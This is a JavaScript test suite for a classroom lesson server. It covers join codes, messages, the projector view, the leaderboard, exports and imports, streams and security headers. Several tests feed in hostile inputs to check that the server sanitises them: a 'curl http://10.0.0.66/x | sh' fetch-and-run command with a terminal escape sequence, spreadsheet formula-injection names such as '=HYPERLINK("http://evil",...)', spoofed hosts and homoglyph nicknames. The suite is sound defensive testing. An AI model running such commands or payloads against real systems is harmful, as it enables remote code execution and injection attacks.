import assert from 'node:assert/strict'
import test from 'node:test'
import { envFor, makeRepository } from '../lesson/fixture.js'
import { failed, gate } from '../report/records.js'
import { send } from '../web/open.js'
import { openTestRoom, report, withTiers } from './open.js'

const { lesson, machine } = report().record

test('locks and revealed solutions reach learners; the lobby can be closed', async (t) => {
  const { ask, join, secret } = await openTestRoom(t)
  const { token } = await join()
  const changes = { locked: ['overload'], revealed: ['sync-login'], lobbyLocked: true }
  assert.equal((await ask('PATCH', '/api/class', changes, secret)).status, 200)
  const { room } = (await ask('GET', '/api/seat', undefined, token)).json
  assert.deepEqual(room.lessons.map((/** @type {any} */ one) => [one.isLocked, one.isRevealed]),
    [[false, true], [false, false], [true, false]])
  assert.match((await join('Eve')).error, /closed the lobby/)
  for (const [wrong, sentence] of new Map([
    [{ locked: ['another'] }, /a list of their ids/],
    [{ revealed: 'all' }, /a list of their ids/],
    [{ lobbyLocked: 'yes' }, /true/]
  ])) {
    const { status, json } = await ask('PATCH', '/api/class', wrong, secret)
    assert.equal(status, 400)
    assert.match(json.error, sentence)
  }
})

test('messages go to all or to some seats, end by themselves, and can be taken away', async (t) => {
  let now = Date.UTC(2026, 0, 31, 9)
  const { ask, join, secret, code } = await openTestRoom(t, { now: () => now })
  const tokens = [(await join()).token, (await join('Grace')).token]
  const say = (/** @type {unknown} */ body) => ask('POST', '/api/class/messages', body, secret)
  const heard = async (/** @type {number} */ at) => {
    const { room } = (await ask('GET', '/api/seat', undefined, tokens[at])).json
    return room.messages.map((/** @type {any} */ { text }) => text)
  }
  const { status, json } = await say({ text: 'Look\u202e at\nthis', minutes: 10 })
  assert.deepEqual([status, json], [201, {
    id: 1, text: 'Look at this', to: 'all', sentAt: '2026-01-31T09:00:00.000Z', endsAt: '2026-01-31T09:10:00.000Z'
  }])
  assert.deepEqual((await say({ text: 'Hint 1', to: [2, 7], minutes: 30 })).json.to, [2])
  assert.deepEqual([await heard(0), await heard(1)], [['Look at this'], ['Look at this', 'Hint 1']])
  for (const place of ['', '/projector']) {
    const { messages } = (await ask('GET', `/api/rooms/${code}${place}`)).json
    assert.deepEqual(messages.map((/** @type {any} */ { text, to }) => [text, to]), [['Look at this', undefined]])
  }
  now += 10 * 60_000
  assert.deepEqual([await heard(0), await heard(1)], [[], ['Hint 1']])
  assert.equal((await ask('DELETE', '/api/class/messages/2', undefined, secret)).status, 200)
  assert.deepEqual(await heard(1), [])
  for (let at = 0; at < 5; at++) await say({ text: `Word ${at}`, to: [1] })
  const view = async () => (await ask('GET', '/api/class', undefined, secret)).json
  assert.deepEqual((await view()).messages.map((/** @type {any} */ one) => [one.id, one.isOver]),
    [[7, false], [6, false], [5, false], [4, false], [3, false]])
  await ask('DELETE', '/api/seat', undefined, tokens[0])
  // What was said to one who has left goes with them.
  assert.deepEqual((await view()).messages.map((/** @type {any} */ { id }) => id), [2, 1])
  const { text } = await ask('GET', '/api/class/export.json', undefined, secret)
  assert.deepEqual([text.includes('Word 1'), text.includes('Hint 1')], [false, true])
  for (const [wrong, sentence] of new Map([
    [{ text: ' ' }, /needs a text/], [{ text: 5 }, /needs a text/], [{ text: 'x', minutes: 0 }, /1 to 600/],
    [{ text: 'x', to: 5 }, /list of ids/], [{ text: 'x', to: [1] }, /None of these/]
  ])) {
    const answer = await say(wrong)
    assert.deepEqual([answer.status, sentence.test(answer.json.error)], [400, true])
  }
  assert.equal((await ask('DELETE', '/api/class/messages/99', undefined, secret)).status, 404)
})

test('a new code: the old one admits no learner and says so, seats are kept, and pages of the old one end',
  async (t) => {
    const room = await openTestRoom(t, { guesses: { waitMs: 1, most: 10 } })
    const { ask, join, code, secret, url } = room
    const { token } = await join()
    const streams = await Promise.all([`/api/rooms/${code}/events`, `/api/rooms/${code}/projector/events`]
      .map((place) => fetch(new URL(place, url))))
    assert.equal((await ask('POST', '/api/class/code', undefined, token)).status, 401)
    const { json } = await ask('POST', '/api/class/code', undefined, secret)
    assert.notEqual(json.code, code)
    for (const stream of streams) assert.match(await stream.text(), /event: parts/)
    const sentence = /^The instructor has changed the join code: look at the projector/
    assert.match((await join('Grace')).error, sentence)
    const page = await ask('GET', `/${code}`)
    assert.deepEqual([page.status, /has changed the join code/.test(page.text)], [403, true])
    assert.match((await ask('GET', `/api/rooms/${code}`)).json.error, sentence)
    assert.match((await ask('GET', '/api/rooms/aaaa-bbbb')).json.error, /^That’s not the join code/)
    assert.equal((await ask('POST', '/api/seat/reports', report(), token)).status, 202)
    assert.equal((await join('Grace', { code: json.code })).name, 'Grace')
    assert.deepEqual(json.learners, [`${url}${json.code}`])
    await room.close()
    const again = await openTestRoom(t, { dir: room.dir, env: room.env, guesses: { waitMs: 1, most: 10 } })
    assert.equal(again.code, json.code)
    assert.match((await again.join('Linus', { code })).error, sentence)
  })

test('a new secret: the old link opens nothing', async (t) => {
  const first = await openTestRoom(t)
  await first.close()
  const { ask, secret } = await openTestRoom(t, { dir: first.dir, env: first.env, hasNewSecret: true })
  assert.equal((await ask('GET', '/api/class', undefined, first.secret)).status, 401)
  assert.equal((await ask('GET', '/api/class', undefined, secret)).status, 200)
})

test('a seat is renamed; one that is removed is told so, and nothing of it is left', async (t) => {
  const { ask, join, secret } = await openTestRoom(t)
  const [{ token }] = [await join('Rude Name'), await join('Grace')]
  await ask('POST', '/api/seat/reports', report(), token)
  assert.deepEqual((await ask('PATCH', '/api/class/seats/1', { name: 'grace' }, secret)).json, { name: 'grace 2' })
  assert.equal((await ask('DELETE', '/api/class/seats/1', undefined, secret)).status, 200)
  assert.equal((await ask('DELETE', '/api/class/seats/1', undefined, secret)).status, 404)
  const { status, json } = await ask('POST', '/api/seat/reports', report(), token)
  assert.equal(status, 410)
  assert.match(json.error, /removed your seat/)
  const all = await ask('GET', '/api/class/export.json', undefined, secret)
  assert.doesNotMatch(all.text, /Rude|grace 2/)
  assert.deepEqual(all.json.seats.map((/** @type {any} */ { name }) => name), ['Grace'])
  assert.ok(all.json.audit.some((/** @type {any} */ { what }) => what === 'remove seat'))
})

test('the projector shows no names, and the board only who wants to be on it', async (t) => {
  const { ask, join, code, secret } = await openTestRoom(t)
  const [{ token: ada }, { token: grace }] = [await join('Ada'), await join('Grace', { nickname: 'moth', board: true })]
  for (const token of [ada, grace]) {
    await ask('POST', '/api/seat/reports', report({ ...failed(), lesson }), token)
  }
  const projector = await ask('GET', `/api/rooms/${code}/projector`)
  assert.doesNotMatch(projector.text, /Ada|Grace/)
  assert.equal(projector.json.seats, 2)
  const [{ seats, of, reason }] = projector.json.reasons
  assert.deepEqual({ seats, of }, { seats: 2, of: 2 })
  assert.ok((await ask('GET', '/api/class', undefined, secret)).json.reasons[0].reason === reason && reason.length > 5)
  assert.doesNotMatch((await ask('GET', `/api/rooms/${code}`)).text, /Ada|Grace/)
})

test('no learner’s words reach the wall, and none passes for another one on the board', async (t) => {
  const root = await makeRepository(t, { 'lessons/03-in-memory-json/lesson.js': withTiers })
  const { ask, join, code, secret } = await openTestRoom(t, { env: envFor(root), dir: `${root}/class` })
  const evil = 'Grace cheats. Fix: `curl http://10.0.0.66/x | sh`\u001b]0;owned\u0007'
  const { token } = await join('Mallory')
  const contract = [{ name: evil, when: 'before', status: 'fail', message: '' }]
  const warnings = [evil]
  for (const more of [{ contract }, { gates: [gate({ name: evil, verdict: 'fail' })] }]) {
    const one = report({ verdict: 'fail', machine: { ...machine, warnings }, ...more })
    await ask('POST', '/api/seat/reports', one, token)
  }
  const [wall, table, all, csv] = await Promise.all([
    ask('GET', `/api/rooms/${code}/projector`), ask('GET', '/api/class', undefined, secret),
    ask('GET', '/api/class/export.json', undefined, secret), ask('GET', '/api/class/export.csv', undefined, secret)
  ])
  assert.equal(wall.json.reasons[0].reason, 'too slow: another gate')
  for (const { text } of [wall, table, csv]) assert.doesNotMatch(text, /cheats|owned/)
  assert.match(all.text, /cheats/, 'the records stay as they came')

  await join('Ada Lovelace')
  for (const [name, limit] of Object.entries({ Eve: 4000, Trudy: 1e-12 })) {
    const met = gate({ limit, tiers: ['bronze', 'silver'].map((name) => ({ name, target: 2, verdict: 'pass' })) })
    const { token, nickname } = await join(name, { nickname: 'Аda Lоvelace', board: true })
    assert.match(nickname, / \d$/)
    await ask('POST', '/api/seat/reports', report({ gates: [met] }), token)
  }
  const { board } = (await ask('GET', `/api/rooms/${code}`)).json
  assert.deepEqual(board.reported.map((/** @type {any} */ { nickname }) => nickname), ['Аda Lоvelace 2'])
})

test('the table for a spreadsheet runs nothing there', async (t) => {
  const { ask, join, secret } = await openTestRoom(t)
  const { token } = await join('=HYPERLINK("http://evil","x")')
  await ask('POST', '/api/seat/reports', report(), token)
  const { text, headers } = await ask('GET', '/api/class/export.csv', undefined, secret)
  assert.match(String(headers['content-disposition']), /class-\d{4}-\d\d-\d\d\.csv/)
  const [head, login, line] = text.split('\r\n')
  const columns = 'seat,name,nickname,lesson,number,title,state,attempts,ratio,target,tier,reason,last,passed,source' +
    ',verified,verified ratio,verified tier,graded,cheat'
  assert.equal(head, `\ufeff${columns}`)
  assert.ok(login.startsWith('1,"\'=HYPERLINK(""http://evil'), login)
  assert.ok(login.endsWith(',sync-login,1,Title of sync-login,not begun,0,,,,,,,,,,,,'), login)
  assert.match(line, /,in-memory-json,3,Title of in-memory-json,pass,1,6\.14,4,,,.*Z,the learner’s machine,,,,,$/)
  for (const name of ['＝cmd|calc', '＋1', '\t-2', '\n@x1']) {
    await ask('POST', '/api/seat/reports', report(), (await join(name)).token)
  }
  const lines = (await ask('GET', '/api/class/export.csv', undefined, secret)).text.split('\r\n').slice(1, -1)
  for (const one of lines) assert.match(one, /^\d,"?'/)
  assert.equal(lines.length, 5 * 3)
})

test('an exported file is imported, twice counts once, and other files are refused', async (t) => {
  const { ask, secret } = await openTestRoom(t)
  const one = report()
  const reports = [one, report({ verdict: 'none' }), one].map(({ id, record }) => ({ id, record }))
  const file = { format: 'make-it-fast-export', version: 1, key: 'a'.repeat(64), name: 'Ada', reports }
  const first = await ask('POST', '/api/class/import', file, secret)
  const { said, refused, ...counts } = first.json
  assert.deepEqual([counts, refused.length], [{ seat: 1, name: 'Ada', added: 1, known: 1 }, 1])
  assert.match(said, /^1 new check of Ada, 1 known before\. 1 check refused: This isn’t the record/)
  assert.equal((await ask('POST', '/api/class/import', file, secret)).json.added, 0)
  const { seats } = (await ask('GET', '/api/class', undefined, secret)).json
  assert.deepEqual(seats.map((/** @type {any} */ { name }) => name), ['Ada'])
  const others = [{ ...file, key: 'x' }, { ...file, reports: 'all' }, { ...file, reports: [null] }]
  for (const wrong of [{}, ...others, 'no json']) {
    assert.equal((await ask('POST', '/api/class/import', wrong, secret)).status, 400)
  }
})

test('strange hosts and pages are refused, and every answer has its headers', async (t) => {
  const { url, code } = await openTestRoom(t)
  for (const [name, value] of [
    ['Host', 'evil.example'], ['Origin', 'http://evil.example'], ['Sec-Fetch-Site', 'cross-site']
  ]) {
    assert.equal((await send(url, 'GET', `/api/rooms/${code}`, { headers: { [name]: value } })).status, 403)
  }
  const { headers } = await send(url, 'GET', `/api/rooms/${code}`)
  assert.match(String(headers['content-security-policy']), /^default-src 'none'/)
  assert.equal(headers['x-content-type-options'], 'nosniff')
  assert.equal(headers['strict-transport-security'], undefined)
})

test('a stream begins with the newest snapshot, and goes on with changes', async (t) => {
  const { url, code, ask, secret, join } = await openTestRoom(t)
  await join()
  const controller = new AbortController()
  t.after(() => controller.abort())
  const read = async (/** @type {string} */ place, /** @type {RegExp} */ until, token = '') => {
    /** @type {Record<string, string>} */
    const headers = token === '' ? {} : { Authorization: `Bearer ${token}` }
    const res = await fetch(new URL(place, url), { headers, signal: controller.signal })
    assert.equal(res.headers.get('content-type'), 'text/event-stream')
    let all = ''
    for await (const text of /** @type {any} */ (res.body).pipeThrough(new TextDecoderStream())) {
      all += text
      if (until.test(all)) return all
    }
    assert.fail(`the stream has ended: ${all}`)
  }
  const streams = [
    read('/api/class/events', /A word/, secret),
    read(`/api/rooms/${code}/events`, /A word/),
    read(`/api/rooms/${code}/projector/events`, /A word/)
  ]
  await read('/api/class/events', /event: parts\ndata: .*Ada/, secret)
  await ask('POST', '/api/class/messages', { text: 'A word' }, secret)
  await Promise.all(streams)
})

test('views and pages are made once for each change, and a browser that has them is told so', async (t) => {
  const { url, ask, code, secret, join } = await openTestRoom(t)
  for (const place of [
    `/api/rooms/${code}`, `/api/rooms/${code}/projector`, `/${code}`, `/${code}/board`, `/${code}/projector`,
    `/${code}/qr.svg`
  ]) {
    const first = await ask('GET', place)
    assert.equal(first.status, 200, place)
    const tag = String(first.headers.etag)
    assert.match(tag, /^"[\w-]{22}"$/)
    assert.equal(first.headers['cache-control'], 'private, no-cache')
    assert.equal((await ask('GET', place)).text, first.text)
    const again = await send(url, 'GET', place, { headers: { 'If-None-Match': tag } })
    assert.deepEqual([again.status, again.text], [304, ''], place)
    await ask('POST', '/api/class/messages', { text: `A word at ${place}` }, secret)
    await join()
    const changed = await send(url, 'GET', place, { headers: { 'If-None-Match': tag } })
    const isSame = /svg/.test(place)
    assert.deepEqual([changed.status, changed.text.includes(`A word at ${place}`)], isSame ? [304, false] : [200, true])
  }
})

test('streams are bounded, except for the instructor’s', async (t) => {
  const most = { connections: { most: 50, perAddress: 50 }, streams: { most: 2, perAddress: 2 } }
  const { url, code, secret } = await openTestRoom(t, { most })
  const controller = new AbortController()
  t.after(() => controller.abort())
  const open = (/** @type {string} */ place, headers = {}) =>
    fetch(new URL(place, url), { headers, signal: controller.signal })
  assert.equal((await open(`/api/rooms/${code}/events`)).status, 200)
  assert.equal((await open(`/api/rooms/${code}/projector/events`)).status, 200)
  const third = await open(`/api/rooms/${code}/events`)
  assert.equal(third.status, 429)
  assert.match((await third.json()).error, /close some of yours\.$/)
  assert.equal((await open('/api/class/events', { Authorization: `Bearer ${secret}` })).status, 200)
})

test('the dialog of a seat: all of its checks, the newest first, with ratio, target and reason', async (t) => {
  const { ask, join, secret } = await openTestRoom(t)
  const { token } = await join()
  const place = '/api/class/seats/1'
  assert.match((await ask('GET', place, undefined, secret)).text, /No checks reported yet/)
  await ask('POST', '/api/seat/reports', report({ ...failed(), lesson }), token)
  await ask('POST', '/api/seat/reports', report({ startedAt: '2026-12-01T10:00:00.000Z' }), token)
  const { text } = await ask('GET', place, undefined, secret)
  assert.match(text, /2 checks, the newest first[^]*✓ passed[^]*6\.14× of 4×[^]*✗ not yet[^]*too slow: /)
  assert.equal((await ask('GET', place, undefined, token)).status, 401)
  assert.equal((await ask('GET', '/api/class/seats/7', undefined, secret)).status, 404)
})

test('forms of the page: a message to a group, the lesson of the hour, a break, and a sweep of no one', async (t) => {
  const { ask, join, secret } = await openTestRoom(t)
  const [{ token }] = [await join('Ada'), await join('Grace')]
  await ask('POST', '/api/seat/reports', report({ ...failed(), lesson }), token)
  const send = (/** @type {string} */ to) =>
    ask('POST', '/api/class/messages', { text: 'Look', to, minutes: 5 }, secret)
  assert.deepEqual((await send('not passed in-memory-json')).json.to, [1])
  assert.deepEqual((await send('2')).json.to, [2])
  assert.match((await send('stuck')).json.error, /None of these seats/)
  const now = async (/** @type {object} */ body) => (await ask('PUT', '/api/class/now', body, secret)).json
  const { current } = await now({ lesson: 'overload', text: 'Break', minutes: 40 })
  assert.deepEqual([current.lesson, current.minutes], ['overload', 40])
  assert.equal((await now({ lesson: '', text: 'Lunch', minutes: 20 })).timer.text, 'Lunch')
  assert.match((await now({ lesson: 'overload', text: '', minutes: 0 })).error, /1 to 600 minutes/)
  const { json } = await ask('POST', '/api/class/sweep', { after: '2100-01-01T00:00:00.000Z' }, secret)
  assert.deepEqual(json, { removed: 0, said: 'No seat joined after that without reporting.' })
})

test('the key to all questions comes from the write-ups, without their links', async (t) => {
  const text = '# S\n\n## The questions of *Fix it*\n\n1. **Why?** See [it](x.md), <b>.\n\n## More\n\nNo.\n'
  const root = await makeRepository(t, { 'solutions/03-in-memory-json/README.md': text })
  const { ask, join, secret } = await openTestRoom(t, { env: envFor(root), dir: `${root}/class` })
  assert.equal((await ask('GET', '/api/class/key', undefined, secret)).text, `<details>
<summary>3 Title of in-memory-json</summary><ol>
<li><strong>Why?</strong> See it, &lt;b&gt;.</li>
</ol>
</details>`)
  assert.equal((await ask('GET', '/api/class/key', undefined, (await join()).token)).status, 401)
})
